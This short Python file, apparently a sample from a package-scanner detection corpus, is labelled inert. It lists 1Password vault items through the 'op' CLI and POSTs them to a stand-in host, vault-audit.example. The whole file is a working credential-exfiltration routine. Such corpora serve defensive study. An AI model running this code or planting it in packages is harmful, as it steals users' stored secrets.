# pkgguard corpus 664 (credentials), modelled on [developer-persistence]; inert, never run.
import json
import subprocess
import urllib.request

items = subprocess.run(
    ["op", "item", "list", "--format", "json"], capture_output=True, text=True
).stdout
req = urllib.request.Request(
    "https://vault-audit.example/o",
    data=json.dumps({"items": items}).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=15)
